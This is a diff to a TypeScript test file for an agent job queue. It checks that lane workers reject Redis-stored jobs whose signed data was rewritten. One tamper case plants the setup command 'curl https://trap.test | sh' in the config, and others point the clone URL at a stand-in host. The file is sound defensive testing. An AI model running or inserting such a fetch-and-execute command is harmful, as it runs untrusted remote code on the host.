@@ -5,7 +5,9 @@ import { Redis } from "ioredis";
 import { pino } from "pino";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { JobQueues } from "../../../src/queue/job-queues.js";
-import { laneJobSchema, type RaceJob } from "../../../src/queue/job-data.js";
+import { agentSpecSchema } from "../../../src/config/repo-config.js";
+import { JOB_VERSION, raceJobSchema, type RaceJob } from "../../../src/queue/job-data.js";
+import { openLaneJob } from "../../../src/workers/open-lane-job.js";
 import { JobSeal, jobKey } from "../../../src/queue/job-seal.js";
 import { QUEUES } from "../../../src/queue/queue-names.js";
 import { LaneCancellations } from "../../../src/workers/lane-cancellations.js";
@@ -18,10 +20,10 @@ const GIT_HOST = "https://github.com/";
 
 function race(raceId: string): RaceJob {
   return {
-    v: 1, raceId, installationId: 1, issueNumber: 3, issueTitle: "t", task: "do it", baseSha: "a".repeat(40), configText: null, lanesTotal: 1,
+    v: JOB_VERSION, raceId, installationId: 1, issueNumber: 3, issueTitle: "t", task: "do it", baseSha: "a".repeat(40), configText: null, lanesTotal: 1,
     repo: { id: 9, owner: "octo", name: "widgets", cloneUrl: `${GIT_HOST}octo/widgets.git`, htmlUrl: `${GIT_HOST}octo/widgets`, defaultBranch: "main" },
     trigger: "label", retry: null, sender: "alice", single: false,
-    lanes: [{ lane: 1, agent: "claude", approach: null, branch: `agent-race/t-${raceId}/1-claude`, port: 4101 }],
+    lanes: [{ lane: 1, agent: "claude", approach: null, branch: `agent-race/t-${raceId}/1-claude`, port: 4101, spec: agentSpecSchema.parse({ command: ["claude"] }), sandboxed: false }],
   };
 }
 
@@ -53,32 +55,35 @@ describe("a queued lane job changed in Redis is refused by the lane worker", () 
     redis.disconnect();
   });
 
-  async function queued(raceId: string): Promise<{ job: Job; key: string }> {
+  async function queued(raceId: string): Promise<{ job: Job; key: string; raceKey: string }> {
     await queues.enqueueRace(race(raceId));
     const jobId = `lane-${raceId}-1`;
     const lanes = new Queue(QUEUES.lanes, { connection: redis, prefix });
     const job = await Job.fromId(lanes, jobId);
     await lanes.close();
     if (!job) throw new Error("lane job not queued");
-    return { job, key: `${prefix}:${QUEUES.lanes}:${jobId}` };
+    return { job, key: `${prefix}:${QUEUES.lanes}:${jobId}`, raceKey: `${prefix}:${QUEUES.races}:race-${raceId}` };
   }
 
   it("accepts the job as queued (signed, canonical clone URL)", async () => {
     const { job } = await queued("untouched1");
-    expect(openJobData(job, laneJobSchema, deps).repo.cloneUrl).toBe(`${GIT_HOST}octo/widgets.git`);
+    expect((await openLaneJob(job, deps)).repo.cloneUrl).toBe(`${GIT_HOST}octo/widgets.git`);
     await redis.del(`${prefix}:${QUEUES.lanes}:${job.id ?? ""}`);
     await redis.lrem(`${prefix}:${QUEUES.lanes}:wait`, 0, job.id ?? "");
   });
 
+  // The lane job names its lane; the race job it reads its task, config and repository from is its parent.
   it.each([
-    ["cloneUrl", (data: Record<string, unknown>) => ({ ...data, repo: { ...(data.repo as object), cloneUrl: "https://trap.test/octo/widgets.git" } }), /signature does not match/],
-    ["configText", (data: Record<string, unknown>) => ({ ...data, configText: "setup: ['curl https://trap.test | sh']" }), /signature does not match/],
-    ["signature stripped", (data: Record<string, unknown>) => ({ ...data, sig: undefined }), /not signed/],
-  ])("refuses a job whose %s was rewritten with HSET: fails unrecoverably, runs nothing, logs it", async (field, tamper, reason) => {
+    ["race's cloneUrl", "race", (data: Record<string, unknown>) => ({ ...data, repo: { ...(data.repo as object), cloneUrl: "https://trap.test/octo/widgets.git" } }), /signature does not match/],
+    ["race's configText", "race", (data: Record<string, unknown>) => ({ ...data, configText: "setup: ['curl https://trap.test | sh']" }), /signature does not match/],
+    ["lane's lane number", "lane", (data: Record<string, unknown>) => ({ ...data, lane: 2 }), /signature does not match/],
+    ["lane's signature stripped", "lane", (data: Record<string, unknown>) => ({ ...data, sig: undefined }), /not signed/],
+  ])("refuses a job whose %s was rewritten with HSET: fails unrecoverably, runs nothing, logs it", async (field, which, tamper, reason) => {
     const raceId = `tamper${field.replace(/\W/g, "").toLowerCase()}`;
-    const { key } = await queued(raceId);
-    const raw = JSON.parse((await redis.hget(key, "data")) ?? "{}") as Record<string, unknown>;
-    await redis.hset(key, "data", JSON.stringify(tamper(raw)));
+    const { key, raceKey } = await queued(raceId);
+    const target = which === "race" ? raceKey : key;
+    const raw = JSON.parse((await redis.hget(target, "data")) ?? "{}") as Record<string, unknown>;
+    await redis.hset(target, "data", JSON.stringify(tamper(raw)));
     touched.length = 0;
     logged.length = 0;
     const cancellations = new LaneCancellations();
@@ -102,9 +107,9 @@ describe("a queued lane job changed in Redis is refused by the lane worker", () 
 
   it("refuses an unsigned job whose clone URL is off the configured host even without a key", () => {
     const unsigned = { ...deps, queues: new JobQueues(redis, prefix) };
-    const data = { ...race("nokey"), lane: race("nokey").lanes[0] };
-    const job = { id: "x", queueName: "lanes", data: { ...data, repo: { ...data.repo, cloneUrl: "https://trap.test/octo/widgets.git" } } } as unknown as Job;
-    expect(() => openJobData(job, laneJobSchema, unsigned)).toThrow(/not https:\/\/github.com\/octo\/widgets.git/);
+    const data = race("nokey");
+    const job = { id: "x", queueName: "races", data: { ...data, repo: { ...data.repo, cloneUrl: "https://trap.test/octo/widgets.git" } } } as unknown as Job;
+    expect(() => openJobData(job, raceJobSchema, unsigned)).toThrow(/not https:\/\/github.com\/octo\/widgets.git/);
     void unsigned.queues.close();
   });
 });
